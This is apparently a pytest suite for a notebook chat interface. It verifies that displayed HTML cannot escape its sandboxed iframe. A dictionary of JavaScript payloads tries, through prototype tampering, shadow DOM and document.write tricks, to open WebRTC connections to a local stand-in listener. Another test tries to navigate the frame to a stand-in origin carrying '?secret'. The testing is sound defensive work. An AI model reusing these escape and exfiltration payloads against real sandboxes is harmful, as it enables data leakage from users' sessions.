# SPDX-License-Identifier: MIT
"""What HTML and figures can do to their frame, and what their frame keeps them from.

Two listeners stand for the rest of the world: one that notes datagrams, as a peer connection sends
them to its server, and another origin that notes requests. A display tells by its text that its
attack is over; what an attack needs to get loaded is loaded by then, or never.
"""

import base64
import json
import re
import select
import socket

import pytest
import webpage
from webpage import expect


@pytest.fixture
def stun():
    """A server that a peer connection would ask; nobody may have when the test is over."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        yield listener.getsockname()[1]
        assert not select.select([listener], [], [], 0)[0], "a datagram has left the frame"


@pytest.fixture
def tab(direct, tab_of):
    """A tab with a new chat."""
    return tab_of(direct).open()


def show(tab, html, count=1):
    """Let a cell display HTML; return its frame."""
    text = base64.b64encode(html.encode()).decode()
    tab.say("import base64; from IPython.display import HTML, display\n"
            f"display(HTML(base64.b64decode('{text}').decode()))")
    tab.answered(count)
    return tab.blocks().last.locator("iframe")


# ---- peer connections (FIL-25)

PEER = ("<script>const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});"
        "pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o));"
        "</script>")
MAKE = "const f = document.createElement('iframe'); f.srcdoc = INNER;"
APPEND = MAKE + "document.body.append(f);"
HOST = "const h = document.createElement('div'); document.body.append(h);"
TEMPLATE = ("<div><template shadowrootmode=closed>"
            "<iframe srcdoc=\"QUOTED\"></iframe></template></div>")

ATTACKS = {
    "own": "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]})",
    "plain": APPEND,
    "busy": APPEND + "const end = Date.now() + 700; while (Date.now() < end);",
    "forEach": "NodeList.prototype.forEach = () => {};" + APPEND,
    "remove": "Element.prototype.remove = Element.prototype.replaceWith = () => {};" + APPEND,
    "iterators": "Array.prototype[Symbol.iterator] = function* () {};"
                 "NodeList.prototype[Symbol.iterator] = function* () {};" + APPEND,
    "getters": "Object.defineProperty(MutationRecord.prototype, 'addedNodes', {get: () => []});"
               "Object.defineProperty(NodeList.prototype, 'length', {get: () => 0});"
               "Object.defineProperty(Element.prototype, 'localName', {get: () => 'p'});" + APPEND,
    "apply": "Reflect.apply = Function.prototype.call = Function.prototype.apply = () => {};"
             + APPEND,
    "fakeMessage": "Object.defineProperty(MessageEvent.prototype, 'source', {get: () => parent});"
                   "window.postMessage({type: 'html', head: '', html: TEMPLATE}, '*');",
    "closed": HOST + MAKE + "h.attachShadow({mode: 'closed'}).append(f);",
    "clonable": "const h = document.createElement('div');" + MAKE +
                "h.attachShadow({mode: 'closed', clonable: true}).append(f);"
                "document.body.append(h.cloneNode(true), h);",
    "pollution": "Object.prototype.attributeFilter = []; Object.prototype.attributes = false;"
                 "Object.prototype.clonable = true;" + HOST + MAKE +
                 "try { h.attachShadow({mode: 'closed'}) } catch {} h.shadowRoot?.append(f);",
    "stack": HOST + MAKE + "const deep = () => { try { deep() } catch { try {"
             "h.attachShadow({mode: 'open'}) } catch {} } }; deep();"
             "delete Object.prototype.x; h.shadowRoot?.append(f);",
    "getter": "Object.defineProperty(Element.prototype, 'shadowRoot', {get: () => null});" + HOST +
              MAKE + "h.attachShadow({mode: 'closed'}).append(f);",
    "write": "document.write(TEMPLATE);",
    "splitWrite": "const t = TEMPLATE; document.write(t.slice(0, 25)); "
                  "document.write(t.slice(25));",
    "reopen": "document.open(); document.write(TEMPLATE); document.close();" + APPEND,
    "parsed": "document.body.innerHTML = TEMPLATE;"
              "document.body.append(document.createRange().createContextualFragment(TEMPLATE));"
              "document.body.setHTMLUnsafe?.(TEMPLATE);",
    "javascript": "location = 'javascript:' + "
                  "encodeURIComponent(JSON.stringify('<body>' + INNER));",
    "adopted": "const d = document.implementation.createHTMLDocument('');" + MAKE +
               "d.body.append(f); document.body.append(document.adoptNode(f));",
}


def attack(script, port):
    """The page of an attack, which says when everything that it has begun has had its turn."""
    inner = PEER.replace("PORT", str(port))
    template = TEMPLATE.replace("QUOTED", inner)
    for word, value in [("INNER", inner), ("TEMPLATE", template)]:
        script = script.replace(word, json.dumps(value).replace("</", "<\\/"))
    script = script.replace("PORT", str(port))
    # A frame beside it that is allowed to load, as it has no script, would do so in this time.
    return (f"<!doctype html><body><p id=here>here</p><script>{script}</script><script>"
            "setTimeout(() => { document.title = 'over'; const p = document.createElement('p');"
            "p.id = 'over'; p.textContent = 'over'; document.documentElement.append(p) }, 1500)"
            "</script>")


@pytest.mark.parametrize("name", ATTACKS)
def test_no_display_gets_a_peer_connection(stun, tab, name):
    tab.allow(".")
    frame = show(tab, attack(ATTACKS[name], stun)).content_frame
    expect(frame.locator("#over")).to_be_attached()
    own = tab.blocks().last.locator("iframe").element_handle().content_frame()
    assert own.child_frames == []
    if name == "own":
        assert own.evaluate("() => typeof RTCPeerConnection") == "undefined"


def test_the_listener_hears_what_is_not_kept_back(chromium):
    """That the attacks fail means something: the same page without its frame is heard."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        page = chromium.new_page()
        page.set_content("<iframe sandbox='allow-scripts'></iframe>")
        inner = PEER.replace("PORT", str(listener.getsockname()[1]))
        page.locator("iframe").evaluate("(f, html) => { f.srcdoc = html }", inner)
        webpage.until(lambda: (page.title(), select.select([listener], [], [], 0)[0])[1],
                      "a datagram")
        page.close()


@pytest.mark.parametrize("split", [True, False])
def test_no_hidden_tree_by_markup(stun, tab, split):
    """Wherever the text is cut into pieces: a word that is cut is found all the same."""
    tab.allow(".")
    template = TEMPLATE.replace("QUOTED", PEER.replace("PORT", str(stun)))
    start = "<body><p id=here>here<!--"
    pad = "x" * (256 * 1024 - len(start) - len("--><div><template shadowroot")) if split else ""
    tab.say("from IPython.display import HTML, display\n"
            f"display(HTML({start!r} + 'x' * {len(pad)} + '-->' + {template!r}"
            " + '<p id=over>over'))")
    tab.answered(1)
    frame = tab.blocks().last.locator("iframe").content_frame
    expect(frame.locator("#over")).to_be_attached()
    assert frame.locator("template[data-mode]").count() == 1


# ---- going elsewhere


def test_a_frame_that_goes_elsewhere_sends_no_request(tab):
    """FIL-25: a connection may be made and given up (docs/ui.md says so); nothing is sent on it."""
    tab.allow(".")
    with webpage.Elsewhere() as world:
        show(tab, f"<p id=here>here<script>location = '{world.url}/?secret'</script>")
        webpage.until(lambda: tab.page.title() and any("frame-src" in c for c in tab.complaints),
                      "it is refused")
        assert world.requests == []
    tab.foreign.clear()


# ---- what is seen


def test_a_frame_within_leaves_a_note(tab):
    frame = show(tab, "<p>map</p><iframe srcdoc='<p>tiles'></iframe><p id=after>after</p>")
    content = frame.content_frame
    expect(content.get_by_text("A frame inside of this output is not shown.")).to_be_visible()
    expect(content.locator("#after")).to_be_visible()


def test_a_page_as_high_as_its_window_does_not_grow(tab):
    frame = show(tab, "<!doctype html><body><div style='height:100vh'>tall</div><p id=end>end")
    expect(frame.content_frame.locator("#end")).to_be_attached()
    tab.say("1 + 1")
    tab.answered(2)
    frame = tab.page.locator("iframe").first
    assert frame.bounding_box()["height"] < 640
    assert tab.button("Show whole").count() == 0


def test_what_a_script_writes_is_there(tab):
    frame = show(tab, "<body><script>document.write('<p id=one>', 'one</p>');"
                      "document.write('<script>window.ran = 1<' + '/script>')</script>"
                      "<p id=two>two")
    content = frame.content_frame
    expect(content.locator("#one + script + script + #two")).to_have_text("two")
    assert frame.element_handle().content_frame().evaluate("() => window.ran") == 1


PLOT = """\
from IPython.display import display
display({'application/vnd.plotly.v1+json': {'data': [{'x': [1, 2], 'y': [2, 1]}]}}, raw=True)
"""


def test_a_plot_stays_in_other_colours_and_widths(tab):
    tab.page.emulate_media(color_scheme="light")
    tab.say(PLOT)
    tab.answered(1)
    frame = tab.blocks().last.locator("iframe")
    figure = frame.content_frame.locator(".main-svg").first
    expect(figure).to_be_visible()
    light = figure.get_attribute("style")
    tab.page.emulate_media(color_scheme="dark")
    expect(figure).not_to_have_attribute("style", light)
    tab.page.set_viewport_size({"width": 390, "height": 800})
    webpage.until(lambda: 0 < figure.bounding_box()["width"] < 390, "the plot is as narrow")
    assert figure.bounding_box()["height"] > 300
    assert frame.bounding_box()["height"] > 300


# ---- failures are not final, ends stay in sight


def test_a_display_that_did_not_load_is_asked_for_again(tab):
    tab.allow("Failed to load resource")
    blobs = re.compile("/threads/[^/]+/blobs/")
    tab.page.route(blobs, lambda route: route.abort())
    tab.say("from IPython.display import display\n"
            "display({'text/markdown': '# Loaded\\n\\n' + 'x' * 3_000_000}, raw=True)")
    tab.answered(1)
    tab.page.reload()
    block = tab.blocks().last
    again = block.get_by_role("button", name="Try again")
    expect(again.first).to_be_visible()
    tab.page.unroute(blobs)
    again.first.click()
    expect(block.get_by_text("Loaded").first).to_be_visible()


def test_the_end_of_output_stays_in_sight_when_a_run_ends(tab):
    tab.say("for i in range(100): print('line', i, flush=True)\n"
            "x = input('go on? ')\nprint('last')")
    log = tab.page.get_by_role("log").first
    expect(log).to_contain_text("line 99")
    log.evaluate("(box) => { box.dataset.same = 'yes' }")
    tab.page.locator("form").get_by_label("go on?").fill("yes")
    tab.page.keyboard.press("Enter")
    tab.answered(1)
    expect(log).to_contain_text("last")
    expect(log).to_have_attribute("data-same", "yes")
    assert log.evaluate("(box) => box.scrollHeight - box.scrollTop - box.clientHeight") < 20
